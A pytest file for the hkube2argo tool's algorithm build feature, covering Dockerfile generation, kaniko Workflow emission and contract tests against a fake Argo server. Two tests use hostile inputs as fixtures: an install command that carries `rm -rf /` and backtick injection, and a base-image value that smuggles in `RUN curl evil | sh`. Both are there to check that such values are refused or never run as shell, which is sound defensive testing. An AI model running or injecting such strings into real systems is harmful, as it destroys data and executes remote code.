"""``algorithm apply --build``: the build Workflow (``emit/build.py``), offline and through
the **fake** Argo Server (contract tests: the body is checked strictly against Argo's
schema; no kaniko runs, no image is pushed, the fake plays the controller by hand)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from hkube2argo import codepack, hkubectl, lint
from hkube2argo.backends import BackendError, select
from hkube2argo.backends.argo import ArgoBackend
from hkube2argo.backends.embedded import EmbeddedBackend
from hkube2argo.config import ClusterConfig
from hkube2argo.diagnostics import ValidationFailed
from hkube2argo.emit import build
from hkube2argo.emit.templates import IMAGE_CODE_DIR, EmitError

from .conftest import EXAMPLES, NAMESPACE, load
from .fake_argo import FakeArgo

CONFIG = ClusterConfig(namespace=NAMESPACE)
KEY = "hkube2argo/algorithms/range/0123456789abcdef.tar.gz"
IMAGE = "registry.example.com/team/range:0123456789abcdef-0a1b2c3d"
REGISTRY = "registry.example.com/team"
RANGE = EXAMPLES / "numbers" / "algorithms" / "range.yaml"


def python(**extra: Any) -> dict[str, Any]:
    return {"name": "range", "env": "python", "entryPoint": "range.py", **extra}


def node(**extra: Any) -> dict[str, Any]:
    return {"name": "concat", "env": "nodejs", "entryPoint": "index.js", **extra}


def raw(workflow: dict[str, Any], name: str) -> str | None:
    for artifact in workflow["spec"]["templates"][0]["inputs"]["artifacts"]:
        if artifact["name"] == name:
            return artifact["raw"]["data"]
    return None


# --- the emitted Workflow -------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", [
    python(), python(dependencyInstallCmd="pip install -e .", baseImage="python:3.11-slim"),
    node(), node(baseImage="node:18.1.0-buster-slim"),
])
def test_build_workflow_passes_strict_lint(algorithm: dict[str, Any]) -> None:
    workflow = build.build_workflow(algorithm, KEY, IMAGE, CONFIG)
    assert lint.lint([workflow]) == []
    spec = workflow["spec"]
    assert spec["serviceAccountName"] == CONFIG.build_service_account
    assert spec["artifactRepositoryRef"] == {"configMap": CONFIG.artifact_repository_configmap,
                                             "key": CONFIG.artifact_repository_key}
    assert workflow["metadata"]["labels"] == {build.BUILD_LABEL: algorithm["name"]}
    assert workflow["metadata"]["namespace"] == NAMESPACE
    template = spec["templates"][0]
    assert template["metadata"]["labels"] == {build.BUILD_LABEL: algorithm["name"]}
    # the code: a key-only S3 artifact, unpacked by Argo into the build context
    code = template["inputs"]["artifacts"][0]
    assert code == {"name": "code", "path": "/workspace/code", "s3": {"key": KEY}}
    container = template["container"]
    assert container["image"] == CONFIG.kaniko_image and "@" not in CONFIG.kaniko_image
    assert CONFIG.kaniko_image.rsplit(":", 1)[1].startswith("v")  # a pinned tag
    assert f"--destination={IMAGE}" in container["args"]
    assert "command" not in container  # kaniko's own entrypoint; no shell anywhere
    # the registry Secret, by reference only, at /kaniko/.docker/config.json
    assert container["volumeMounts"] == [{"name": "registry", "mountPath": "/kaniko/.docker",
                                          "readOnly": True}]
    assert spec["volumes"] == [{"name": "registry", "secret": {
        "secretName": CONFIG.registry_secret,
        "items": [{"key": ".dockerconfigjson", "path": "config.json"}]}}]
    text = json.dumps(workflow)
    assert "password" not in text and "auths" not in text


def test_build_uses_the_config() -> None:
    config = ClusterConfig(build_service_account="sa-b", registry_secret="reg",
                           kaniko_image="example.org/kaniko:v9", namespace=None)
    workflow = build.build_workflow(python(), KEY, IMAGE, config)
    assert workflow["spec"]["serviceAccountName"] == "sa-b"
    assert workflow["spec"]["volumes"][0]["secret"]["secretName"] == "reg"
    assert workflow["spec"]["templates"][0]["container"]["image"] == "example.org/kaniko:v9"
    assert "namespace" not in workflow["metadata"]


def test_dockerfile_python_with_and_without_requirements() -> None:
    with_req = build.dockerfile(python(), CONFIG, ["range.py", "requirements.txt"])
    assert "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\n" in with_req
    assert f"WORKDIR {IMAGE_CODE_DIR}\nCOPY code/ ./\n" in with_req
    assert "RUN python3 -m pip install --no-cache-dir -r requirements.txt\n" in with_req
    without = build.dockerfile(python(), CONFIG, ["range.py"])
    assert "pip install" not in without and "npm" not in without
    unknown = build.dockerfile(python(), CONFIG)  # no file list: the image build decides
    assert "RUN if [ -f requirements.txt ]; then python3 -m pip install" in unknown
    for text in (with_req, without, unknown):
        # the default base is the runtime image (non-root): install as root, then back
        assert text.index("USER root") < text.index("COPY code/") < \
            text.index("USER 10001:10001")
        assert "sys.version_info >= (3, 10)" in text  # the wrapper's Python, checked
        assert "apt-get" not in text  # the runtime image has python3
    base = build.build_workflow(python(), KEY, IMAGE, CONFIG)["spec"]["templates"][0]
    assert f"--build-arg=BASE_IMAGE={CONFIG.python_image}" in base["container"]["args"]


def test_dockerfile_nodejs_with_and_without_package_json() -> None:
    with_pkg = build.dockerfile(node(), CONFIG, ["index.js", "package.json"])
    assert "RUN npm install --no-audit --no-fund\n" in with_pkg
    assert "pip" not in with_pkg
    assert "npm" not in build.dockerfile(node(), CONFIG, ["index.js"])
    assert "RUN if [ -f package.json ]; then npm install" in build.dockerfile(node(), CONFIG)
    args = build.build_workflow(node(), KEY, IMAGE, CONFIG)["spec"]["templates"][0][
        "container"]["args"]
    assert f"--build-arg=BASE_IMAGE={CONFIG.nodejs_image}" in args


def test_dockerfile_node_base_image_gets_python3() -> None:
    """HKube's node base has no python3: the build adds it (apt-get or apk) and checks it."""
    text = build.dockerfile(node(baseImage="node:18.1.0-buster-slim"), CONFIG, ["index.js"])
    assert "command -v python3" in text and "apt-get install --yes --no-install-recommends " \
        "python3" in text and "apk add --no-cache python3" in text
    assert "archive.debian.org" in text  # buster's packages moved there
    assert "USER" not in text  # a given base image keeps its own user
    assert text.index("python3 >/dev/null") < text.index("sys.version_info >= (3, 10)")
    args = build.build_workflow(node(baseImage="node:18.1.0-buster-slim"), KEY, IMAGE,
                                CONFIG)["spec"]["templates"][0]["container"]["args"]
    assert "--build-arg=BASE_IMAGE=node:18.1.0-buster-slim" in args


def test_dependency_install_cmd_is_a_file_not_shell_text() -> None:
    command = "pip install -r reqs/prod.txt && echo \"$HOME\" '; rm -rf /' `id`"
    workflow = build.build_workflow(python(dependencyInstallCmd=command), KEY, IMAGE, CONFIG)
    assert raw(workflow, "install") == command + "\n"
    dockerfile = raw(workflow, "dockerfile")
    assert dockerfile is not None
    assert "COPY h2a/install.sh /hkube/h2a-build/install.sh\n" in dockerfile
    assert "RUN sh -e /hkube/h2a-build/install.sh\n" in dockerfile
    assert "requirements.txt" not in dockerfile and "reqs/prod" not in dockerfile
    args = workflow["spec"]["templates"][0]["container"]["args"]
    assert not any("reqs/prod" in a for a in args)
    # the same for nodejs: no npm install of its own
    text = build.dockerfile(node(dependencyInstallCmd="yarn install"), CONFIG,
                            ["package.json"])
    assert "npm" not in text and "RUN sh -e /hkube/h2a-build/install.sh" in text
    assert raw(build.build_workflow(python(), KEY, IMAGE, CONFIG), "install") is None


@pytest.mark.parametrize("field,value,message", [
    ("dependencyInstallCmd", "pip install {{workflow.name}}", "dependencyInstallCmd contains"),
    ("baseImage", "python:3.11{{x}}", "baseImage contains"),
    ("baseImage", "python:3.11\nRUN curl evil | sh", "not one image reference"),
    ("baseImage", "python:3.11 --insecure", "not one image reference"),
])
def test_unsafe_values_are_refused(field: str, value: str, message: str) -> None:
    with pytest.raises(EmitError, match=message):
        build.build_workflow(python(**{field: value}), KEY, IMAGE, CONFIG)


def test_java_is_not_built() -> None:
    with pytest.raises(EmitError, match="python and nodejs"):
        build.dockerfile({"name": "j", "env": "java"}, CONFIG)


def test_tag_is_the_content_version() -> None:
    tag = build.image_tag(python(), "0123456789abcdef", CONFIG, ["range.py"])
    assert tag.startswith("0123456789abcdef-")
    assert build.image_tag(python(), "0123456789abcdef", CONFIG, ["range.py"]) == tag
    assert build.image_tag(python(cpu=2), "0123456789abcdef", CONFIG, ["range.py"]) == tag
    for changed in (build.image_tag(python(), "fedcba9876543210", CONFIG, ["range.py"]),
                    build.image_tag(python(baseImage="python:3.12"), "0123456789abcdef",
                                    CONFIG, ["range.py"]),
                    build.image_tag(python(dependencyInstallCmd="make"), "0123456789abcdef",
                                    CONFIG, ["range.py"])):
        assert changed != tag
    assert build.destination(REGISTRY + "/", "range", tag) == f"{REGISTRY}/range:{tag}"
    assert build.destination("localhost:5000/a", "range", "t") == "localhost:5000/a/range:t"
    with pytest.raises(EmitError, match="HOST"):
        build.destination("Registry Example/x", "range", tag)


# --- through the fake Argo Server -------------------------------------------------------------


def build_posts(fake: FakeArgo) -> list[dict[str, Any]]:
    return [r.body["workflow"] for r in fake.requests
            if r.method == "POST" and r.path == f"/api/v1/workflows/{NAMESPACE}"]


def play(fake: FakeArgo, name: str, phase: str, message: str = "") -> None:
    fake.objects["workflows"][name]["status"] = {
        "phase": phase, "message": message, "startedAt": "2026-01-01T00:00:00Z",
        "finishedAt": "2026-01-01T00:01:00Z"}


def test_contract_apply_build_submits_one_build(fake: FakeArgo, backend: ArgoBackend) -> None:
    answer = backend.apply_algorithm(load(RANGE), str(RANGE), build=True, registry=REGISTRY)
    posts = build_posts(fake)
    assert len(posts) == 1  # strictly checked by the fake (the fixture asserts no violations)
    workflow = posts[0]
    assert workflow["metadata"]["namespace"] == NAMESPACE
    assert workflow["metadata"]["generateName"] == "build-range-"
    stored = answer["algorithm"]
    code_key = stored["fileInfo"]["path"]
    image = workflow["metadata"]["annotations"][build.IMAGE_ANNOTATION]
    assert image.startswith(f"{REGISTRY}/range:{stored['fileInfo']['checksum']}-")
    template = workflow["spec"]["templates"][0]
    assert template["inputs"]["artifacts"][0]["s3"] == {"key": code_key}
    assert "RUN python3 -m pip install" not in raw(workflow, "dockerfile")  # no requirements
    build_id = answer["buildId"]
    assert build_id in fake.objects["workflows"] and build_id.startswith("build-range-")
    assert stored["buildId"] == build_id
    assert stored["build"]["status"] == "pending" and stored["build"]["image"] == image
    assert "algorithmImage" not in stored  # not before the build has succeeded
    assert answer["messages"][-1].startswith(f"build {build_id} submitted: {image}")

    # the same code again: no second build while this one runs
    play(fake, build_id, "Running")
    again = backend.apply_algorithm(load(RANGE), str(RANGE), build=True, registry=REGISTRY)
    assert len(build_posts(fake)) == 1 and "buildId" not in again
    assert "is being built" in again["messages"][-1]
    assert backend.get_algorithm("range")["build"]["status"] == "active"

    # succeeded: the stored algorithm gets its image; compiles run it as an image algorithm
    play(fake, build_id, "Succeeded")
    got = backend.get_algorithm("range")
    assert got["build"]["status"] == "completed" and got["algorithmImage"] == image
    assert [a.get("algorithmImage") for a in backend.list_algorithms()] == [image]
    third = backend.apply_algorithm(load(RANGE), str(RANGE), build=True, registry=REGISTRY)
    assert len(build_posts(fake)) == 1 and "already built" in third["messages"][-1]
    assert third["algorithm"]["algorithmImage"] == image
    # applied again without --build, same code: the built image still applies
    plain = backend.apply_algorithm(load(RANGE), str(RANGE))
    assert plain["algorithm"]["algorithmImage"] == image

    pipeline = {"name": "one", "nodes": [{"nodeName": "r", "algorithmName": "range",
                                          "input": [3]}]}
    job = backend.exec_raw(pipeline, "one.yaml").job_id
    run = fake.objects["workflows"][job]
    images = [t["container"]["image"] for t in run["spec"]["templates"]
              if t.get("container") and any(p["name"] == "task" for p in
                                            (t.get("inputs") or {}).get("parameters", []))]
    assert image in images
    algorithm_template = next(t for t in run["spec"]["templates"]
                              if (t.get("container") or {}).get("image") == image)
    env = {e["name"]: e.get("value") for e in algorithm_template["container"]["env"]}
    assert env["H2A_CODE_DIR"] == IMAGE_CODE_DIR  # where the build put the code
    assert not any(a["name"] == "code" for a in algorithm_template["inputs"]["artifacts"])


def test_contract_failed_build_is_not_used(fake: FakeArgo, backend: ArgoBackend) -> None:
    first = backend.apply_algorithm(load(RANGE), str(RANGE), build=True, registry=REGISTRY)
    play(fake, first["buildId"], "Failed", "pip: no matching distribution")
    got = backend.get_algorithm("range")
    assert got["build"]["status"] == "failed" and "algorithmImage" not in got
    assert got["build"]["error"] == "pip: no matching distribution"
    job = backend.exec_raw({"name": "one", "nodes": [{"nodeName": "r", "algorithmName":
                                                      "range", "input": [3]}]}, "one.yaml")
    run = fake.objects["workflows"][job.job_id]
    assert any(a["name"] == "code" for t in run["spec"]["templates"]
               for a in (t.get("inputs") or {}).get("artifacts", []))  # runs from its code
    second = backend.apply_algorithm(load(RANGE), str(RANGE), build=True, registry=REGISTRY)
    assert second["buildId"] != first["buildId"] and len(build_posts(fake)) == 3  # +exec
    forced = backend.apply_algorithm(load(RANGE), str(RANGE), build=True, registry=REGISTRY,
                                     force_build=True)
    assert forced["buildId"] not in (first["buildId"], second["buildId"])


def test_contract_build_gone_is_failed(fake: FakeArgo, backend: ArgoBackend) -> None:
    answer = backend.apply_algorithm(load(RANGE), str(RANGE), build=True, registry=REGISTRY)
    del fake.objects["workflows"][answer["buildId"]]
    got = backend.get_algorithm("range")
    assert got["build"]["status"] == "failed" and "is gone" in got["build"]["error"]


def test_contract_build_requirements_and_node(fake: FakeArgo, backend: ArgoBackend,
                                              tmp_path: Path) -> None:
    py = tmp_path / "py"
    py.mkdir()
    (py / "main.py").write_text("def start(args):\n    return 1\n")
    (py / "requirements.txt").write_text("numpy==2.0.0\n")
    js = tmp_path / "js"
    js.mkdir()
    (js / "index.js").write_text("module.exports.start = () => 1;\n")
    (js / "package.json").write_text('{"name": "js", "dependencies": {}}\n')
    backend.apply_algorithm({"name": "py-alg", "env": "python", "code": {"path": str(py)}},
                            str(tmp_path / "a.yaml"), build=True, registry=REGISTRY)
    backend.apply_algorithm({"name": "js-alg", "env": "nodejs", "code": {"path": str(js)},
                             "baseImage": "node:18.1.0-buster-slim"},
                            str(tmp_path / "b.yaml"), build=True, registry=REGISTRY)
    py_build, js_build = build_posts(fake)
    assert "RUN python3 -m pip install --no-cache-dir -r requirements.txt" in raw(
        py_build, "dockerfile")
    js_file = raw(js_build, "dockerfile")
    assert "RUN npm install" in js_file and "apt-get install" in js_file


def test_contract_build_refusals_send_nothing(fake: FakeArgo, backend: ArgoBackend,
                                              s3_port: int, bucket: str) -> None:
    from .test_argo_contract import keys

    descriptor = {**load(RANGE), "dependencyInstallCmd": "pip install {{workflow.name}}"}
    with pytest.raises(ValidationFailed, match="dependencyInstallCmd contains"):
        backend.apply_algorithm(descriptor, str(RANGE), build=True, registry=REGISTRY)
    with pytest.raises(BackendError, match="--registry HOST/NAMESPACE"):
        backend.apply_algorithm(load(RANGE), str(RANGE), build=True)
    with pytest.raises(ValidationFailed, match="HOST"):
        backend.apply_algorithm(load(RANGE), str(RANGE), build=True, registry="Not A Registry")
    with pytest.raises(BackendError, match="has none"):
        backend.apply_algorithm({"name": "img", "algorithmImage": "hkube/img:1"}, "img.yaml",
                                build=True, registry=REGISTRY)
    assert fake.requests == [] and keys(s3_port, bucket) == []
    # without --build the same descriptor is stored (the command runs only in a build)
    assert backend.apply_algorithm(descriptor, str(RANGE))["algorithm"].get("build") is None


def test_embedded_refuses_build(tmp_path: Path) -> None:
    backend = EmbeddedBackend(tmp_path / "state")
    with pytest.raises(BackendError) as caught:
        backend.apply_algorithm(load(RANGE), str(RANGE), build=True, registry=REGISTRY)
    text = str(caught.value)
    assert "\n" not in text and "ARGO_SERVER" in text
    assert not (tmp_path / "state" / "algorithms").exists()


# --- the command ------------------------------------------------------------------------------


def cli() -> click.Group:
    @click.group()
    def main() -> None:
        """test"""

    for command in hkubectl.COMMANDS:
        main.add_command(command)
    return main


def test_cli_build_reaches_the_backend(fake: FakeArgo, backend: ArgoBackend,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[dict[str, Any]] = []
    real = backend.apply_algorithm

    def spy(descriptor: dict[str, Any], source: str, *, build: bool = False,
            registry: str | None = None, force_build: bool = False) -> dict[str, Any]:
        seen.append({"build": build, "registry": registry, "force_build": force_build})
        return real(descriptor, source, build=build, registry=registry,
                    force_build=force_build)

    monkeypatch.setattr(backend, "apply_algorithm", spy)
    monkeypatch.setattr(select, "backend_from_env", lambda *a, **k: backend)
    runner = CliRunner()
    result = runner.invoke(cli(), ["algorithm", "apply", "-f", str(RANGE), "--build"],
                           env={"HKUBE2ARGO_REGISTRY": REGISTRY})
    assert result.exit_code == 0, result.output
    answer = json.loads(result.stdout)
    assert answer["buildId"].startswith("build-range-")
    assert seen == [{"build": True, "registry": REGISTRY, "force_build": False}]
    result = runner.invoke(cli(), ["algorithm", "apply", "-f", str(RANGE), "--build",
                                   "--forceBuild", "--registry", "docker.io/me"])
    assert result.exit_code == 0, result.output
    assert seen[-1] == {"build": True, "registry": "docker.io/me", "force_build": True}
    assert len(build_posts(fake)) == 2
    result = runner.invoke(cli(), ["algorithm", "apply", "-f", str(RANGE)])
    assert result.exit_code == 0  # no --build: the plain call
    assert seen[-1] == {"build": False, "registry": None, "force_build": False}
    help_text = runner.invoke(cli(), ["algorithm", "apply", "--help"]).stdout
    for flag in ("--build", "--forceBuild", "--registry", "HKUBE2ARGO_REGISTRY"):
        assert flag in help_text


def test_cli_build_on_embedded_is_one_line(tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("ARGO_SERVER", raising=False)
    result = CliRunner().invoke(cli(), ["algorithm", "apply", "-f", str(RANGE), "--build",
                                        "--registry", REGISTRY, "--state",
                                        str(tmp_path / "s")])
    assert result.exit_code == 1 and result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("hkube2argo: algorithm builds run on Argo")
    result = CliRunner().invoke(cli(), ["algorithm", "apply", "-f", str(RANGE),
                                        "--forceBuild"])
    assert result.exit_code == 2 and "--forceBuild goes with --build" in result.output


def test_codepack_names_lists_the_files(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "b.py").write_text("x")
    (tmp_path / "requirements.txt").write_text("")
    assert sorted(codepack.names(codepack.pack(tmp_path))) == ["a/b.py", "requirements.txt"]
